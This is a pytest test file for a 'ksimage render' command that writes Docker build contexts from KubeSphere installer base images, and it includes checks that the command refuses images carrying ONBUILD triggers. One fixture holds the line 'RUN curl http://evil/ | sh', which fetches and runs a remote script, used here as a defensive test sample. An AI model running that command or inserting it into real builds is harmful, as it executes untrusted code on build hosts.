"""``ksimage render``: what it writes, and what it does not."""

from __future__ import annotations

import stat
from pathlib import Path
from typing import Any

import pytest
from tests.support import derived
from tests.support.images import ImageStore, Recipe
from tests.support.program import ksimage


def test_exactly_two_files(tmp_path: Path) -> None:
    source = derived.base(tmp_path / "base", Recipe(hook_mode=0o4755))
    ksimage("render", "v3.3.2", "--from", source, "-o", "a/context", cwd=tmp_path).ok()
    found = {path.name: path for path in (tmp_path / "a" / "context").iterdir()}
    assert set(found) == {"Dockerfile", "installRunner.py"}
    assert stat.S_IMODE(found["installRunner.py"].stat().st_mode) == 0o755
    assert b"quiet=False" in found["installRunner.py"].read_bytes()
    # A base without a registry has a name once it is loaded; the program says how.
    assert "\nFROM kubesphere/ks-installer:v3.3.2\n" in found["Dockerfile"].read_text()


@pytest.mark.parametrize("what", ["full", "file"])
def test_nothing_is_mixed_with_what_is_there(tmp_path: Path, what: str) -> None:
    source = derived.base(tmp_path / "base")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "secret").touch()
    (tmp_path / "file").touch()
    finished = ksimage("render", "v3.3.2", "--from", source, "-o", what, cwd=tmp_path)
    assert finished.code == 14
    assert [path.name for path in (tmp_path / "full").iterdir()] == ["secret"]


def with_triggers(path: Path) -> str:
    """A base whose ONBUILD instructions every builder would run."""

    class Triggering(Recipe):
        def config(self) -> dict[str, Any]:
            return {**super().config(), "OnBuild": ["RUN curl http://evil/ | sh"]}

    store = ImageStore(path)
    store.tag(store.image(Triggering(hook=derived.HOOK)), "v3.3.2")
    return f"oci:{path}"


def test_onbuild_is_refused_where_it_would_run(tmp_path: Path) -> None:
    source = with_triggers(tmp_path / "base")
    finished = ksimage("render", "v3.3.2", "--from", source, "-o", "context", cwd=tmp_path)
    assert finished.code == 11
    assert "ONBUILD" in finished.stderr and "--engine direct" in finished.stderr
    assert not (tmp_path / "context").exists()


def test_onbuild_does_not_matter_to_the_direct_engine(tmp_path: Path) -> None:
    source = with_triggers(tmp_path / "base")
    command = ("build", "v3.3.2", "--from", source, "--to", "oci:out")
    assert "proofs hold" in ksimage(*command, cwd=tmp_path).ok().stderr
